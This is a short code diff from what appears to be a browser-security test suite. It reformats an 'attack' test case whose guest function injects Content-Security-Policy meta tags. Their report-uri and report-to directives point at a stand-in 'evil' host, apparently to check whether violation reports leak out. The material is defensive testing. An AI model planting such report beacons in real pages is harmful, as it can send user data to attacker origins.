@@ -9,10 +9,7 @@ export const attack: Attack = {
   // On an ordinary page a report by header is what the witness must hear.
   ordinaryPageHeaders: { 'content-security-policy-report-only': "img-src 'none'; report-uri /20/report" },
   async guest({ evil, pause }) {
-    for (const directives of [
-      `img-src 'none'; report-uri ${evil}/20/meta`,
-      `img-src 'none'; report-to evil`,
-    ]) {
+    for (const directives of [`img-src 'none'; report-uri ${evil}/20/meta`, `img-src 'none'; report-to evil`]) {
       for (const name of ['Content-Security-Policy', 'Content-Security-Policy-Report-Only']) {
         const meta = document.createElement('meta');
         meta.httpEquiv = name;
